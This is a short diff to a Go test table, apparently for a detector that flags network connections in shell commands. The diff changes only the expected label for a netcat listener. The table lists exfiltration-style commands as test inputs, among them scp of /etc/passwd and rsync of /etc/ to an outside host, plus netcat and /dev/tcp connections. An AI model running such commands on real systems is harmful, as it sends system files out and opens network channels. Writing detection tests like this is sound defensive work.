@@ -39,7 +39,7 @@ func TestWhatWebClientsSendAndWriteIsSeen(t *testing.T) {
 		"scp /etc/passwd bob@h.example:":             "host.connect:h.example:22",
 		"rsync -a /etc/ h.example:/x":                "host.connect:h.example:22",
 		"nc h.example 80":                            "host.connect:h.example:80",
-		"nc -l 80":                                   "host.connect:",
+		"nc -l 80":                                   "host:",
 		"cat x > /dev/tcp/h.example/80":              "host.connect:h.example:80",
 		"ssh -J j h.example":                         "host.connect:h.example:22",
 	} {
